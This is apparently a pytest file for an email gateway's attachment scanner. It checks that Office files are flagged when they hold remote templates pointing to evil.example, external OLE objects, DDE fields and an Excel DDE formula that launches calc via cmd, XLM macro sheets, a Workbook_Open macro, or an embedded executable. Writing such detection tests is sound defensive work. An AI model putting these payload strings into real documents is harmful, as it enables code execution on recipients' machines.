"""Office packages: what they fetch, DDE, macro sheets, and files that somebody put in."""

from __future__ import annotations

import hashlib

import pytest

from gateway.anatomy.examine import examine
from tests.anatomy.making.letters import attachment, multipart
from tests.anatomy.making.papers import macro_document, package, relation

SECRET = b"MZ what has to be found"
RUNS = "<w:r><w:instrText xml:space='preserve'> D</w:instrText></w:r><w:r><w:instrText>DEAUTO c:</w:instrText></w:r>"


def content_of(octets, name="a.docx"):
    return examine(multipart(attachment(octets, name))).content


@pytest.mark.parametrize(
    ("parts", "defect"),
    [
        ({"word___rels__settings_xml_rels": relation("attachedTemplate", "https://evil.example/t.dotm")},
         "office.external_template"),
        ({"word___rels__document_xml_rels": relation("oleObject", "https://evil.example/x!")},
         "office.external_object"),
        ({"word__document_xml": RUNS.encode()}, "office.dde"),
        ({"word__document_xml": b'<w:fldSimple w:instr=" DDEAUTO cmd "/>'}, "office.dde"),
        ({"xl__externalLinks__externalLink1_xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
         "office.dde"),
        ({"xl__worksheets__sheet1_xml": b"<c><f>cmd|'/c calc'!A1</f></c>"}, "office.dde"),
        ({"xl__macrosheets__sheet1_xml": b"<x/>"}, "office.xlm"),
        ({"word__embeddings__oleObject1_bin": SECRET}, "office.embedded"),
    ],
)  # fmt: skip
def test_an_oddity_is_noted(parts, defect):
    assert defect in content_of(package(**parts)).defects


def test_a_macro_project_is_read():
    project = macro_document("Sub Workbook_Open()\r\nEnd Sub")
    found = content_of(package(word__vbaProject_bin=project), "a.docm")
    assert set(found.defects) >= {"office.macro", "office.autoexec"}
    assert found.parts[0].true_type.endswith("wordprocessingml.document")


def test_an_ordinary_document_has_no_oddities_and_its_links_are_known():
    parts = {
        "word___rels__document_xml_rels": relation("hyperlink", "https://shop.example/?a=1&amp;b=2"),
        "word___rels__settings_xml_rels": relation(
            "attachedTemplate", "file:///C:/Templates/Normal.dotm", mode="Internal"
        ),
        "word__document_xml": b"<w:t>add DDE to the list</w:t><w:instrText> PAGE </w:instrText>",
        "word__media__image1_png": b"\x89PNG\r\n\x1a\n",
    }
    found = content_of(package(**parts))
    assert not found.defects
    assert len(found.parts) == 1
    assert [(link.url, link.place) for link in found.links] == [("https://shop.example/?a=1&b=2", "office")]


def test_a_file_that_is_no_part_of_a_document_is_found():
    found = content_of(package(word__payload_exe=SECRET))
    assert hashlib.sha256(SECRET).hexdigest() in {part.sha256 for part in found.parts}
    assert "name.executable" in found.defects
